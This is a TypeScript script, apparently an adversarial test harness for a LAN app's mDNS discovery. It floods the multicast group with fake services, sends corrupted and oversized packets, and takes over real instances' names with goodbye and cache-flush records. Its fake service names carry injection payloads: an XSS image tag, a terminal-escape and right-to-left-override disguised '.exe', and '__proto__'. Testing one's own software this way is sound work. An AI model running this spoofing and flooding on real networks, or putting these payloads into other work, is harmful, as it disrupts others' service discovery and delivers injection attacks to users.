/**
 * A prankster on a network, as a program of its own: `node mdns-forger.ts ADDRESS SECONDS`. It floods mDNS with
 * services that are not there, sends damaged and giant packets, and takes leave for whoever announces
 * itself, or answers for its name. Prints a line once it has begun, and at the
 * end how many names it took.
 */
import { randomBytes, randomInt } from 'node:crypto';
import { createSocket } from 'node:dgram';

const [ownAddress = '', seconds = '1'] = process.argv.slice(2);
const MDNS_PORT = 5_353;
const EVERYBODY = '224.0.0.251';
const TICK_MS = 10;
const SERVICES_A_TICK = 10;
const DAMAGED_A_TICK = 5;
const TICKS_BETWEEN_GIANTS = 10;
const ANSWERS_AT_MOST = 2_000;

const TYPE = ['_lanspread', '_tcp', 'local'];
const [A, PTR, TXT, SRV] = [1, 12, 16, 33];
const HOUR_S = 3_600;
const FLUSH = 0x8000;

// Nobody's, this PC's own, everybody's, a stranger's, and one of the room where nobody is.
const HOSTS = ['0.0.0.0', '127.0.0.1', '10.1.0.1', '224.0.0.1', '8.8.8.8', '10.1.0.250'];
const NAMES = [
  '<img src=x onerror=alert(1)>',
  '\u001b[31m\u202egnp.exe',
  '__proto__',
  'x'.repeat(200),
];

interface Service {
  readonly instance: string;
  readonly ttlS: number;
  readonly port: number;
  readonly host: string;
  readonly text: readonly string[];
}

function nameBytes(labels: readonly string[]): Buffer {
  const parts = labels.map((label) => {
    const bytes = Buffer.from(label);
    return Buffer.concat([Buffer.of(bytes.length), bytes]);
  });
  return Buffer.concat([...parts, Buffer.of(0)]);
}

function record(labels: readonly string[], type: number, ttlS: number, data: Buffer): Buffer {
  const head = Buffer.alloc(10);
  head.writeUInt16BE(type, 0);
  // Who shares a record with nobody takes others' out of all memories.
  head.writeUInt16BE(type === PTR ? 1 : 1 | FLUSH, 2);
  head.writeUInt32BE(ttlS, 4);
  head.writeUInt16BE(data.length, 8);
  return Buffer.concat([nameBytes(labels), head, data]);
}

function answer(records: readonly Buffer[]): Buffer {
  const header = Buffer.alloc(12);
  header.writeUInt16BE(0x8400, 2);
  header.writeUInt16BE(records.length, 6);
  return Buffer.concat([header, ...records]);
}

function announced({ instance, ttlS, port, host, text }: Service): readonly Buffer[] {
  const own = [instance, ...TYPE];
  const server = [instance, 'local'];
  const place = Buffer.alloc(6);
  place.writeUInt16BE(port, 4);
  const words = text.map((word) =>
    Buffer.concat([Buffer.of(Buffer.byteLength(word)), Buffer.from(word)]),
  );
  return [
    record(TYPE, PTR, ttlS, nameBytes(own)),
    record(own, SRV, ttlS, Buffer.concat([place, nameBytes(server)])),
    record(own, TXT, ttlS, Buffer.concat(words)),
    record(server, A, ttlS, Buffer.from(host.split('.').map(Number))),
  ];
}

function oneOf<Item>(items: readonly Item[]): Item {
  return items[randomInt(items.length)] as Item;
}

function aService(): Service {
  const text = [`id=${randomBytes(16).toString('hex')}`, 'protocol=1', `name=${oneOf(NAMES)}`];
  const instance = `lanspread-${randomBytes(8).toString('hex')}`;
  return { instance, ttlS: HOUR_S, port: randomInt(0x1_0000), host: oneOf(HOSTS), text };
}

function damaged(packet: Buffer): Buffer {
  const copy = Buffer.from(packet.subarray(0, randomInt(1, packet.length)));
  for (let count = randomInt(8); count > 0; count -= 1)
    copy[randomInt(copy.length)] = randomInt(256);
  return copy;
}

// As large as UDP carries: a text without end, and more records than anybody has.
const giants = [
  answer(announced({ ...aService(), text: Array<string>(240).fill('x'.repeat(249)) })),
  answer(Array<Buffer>(1_000).fill(record(TYPE, PTR, HOUR_S, nameBytes(['lanspread-x', ...TYPE])))),
];

const socket = createSocket({ type: 'udp4', reuseAddr: true });
let answered = 0;

function send(packet: Buffer): void {
  socket.send(packet, MDNS_PORT, EVERYBODY, () => undefined);
}

// M4: takes leave for whom it hears, and answers for its name with a place where nobody is.
socket.on('message', (packet) => {
  const [instance] = /lanspread-[0-9a-f]{16}/.exec(packet.toString('latin1')) ?? [];
  if (instance === undefined || (answered += 1) > ANSWERS_AT_MOST) return;
  const usurped = { ...aService(), instance, port: 9, host: '10.1.0.250' };
  send(answer(announced({ ...usurped, ttlS: 0 })));
  send(answer(announced(usurped)));
});

socket.bind(MDNS_PORT, () => {
  socket.addMembership(EVERYBODY, ownAddress);
  socket.setMulticastInterface(ownAddress);
  socket.setMulticastLoopback(false);
  let ticks = 0;
  const timer = setInterval(() => {
    for (let count = 0; count < SERVICES_A_TICK; count += 1) send(answer(announced(aService())));
    for (let count = 0; count < DAMAGED_A_TICK; count += 1)
      send(damaged(answer(announced(aService()))));
    if (ticks % TICKS_BETWEEN_GIANTS === 0) giants.forEach(send);
    ticks += 1;
    if (ticks === 1) process.stdout.write('flooding\n');
  }, TICK_MS);
  setTimeout(
    () => {
      clearInterval(timer);
      socket.close();
      process.stdout.write(`${answered} names taken\n`);
    },
    Number(seconds) * 1_000,
  );
});
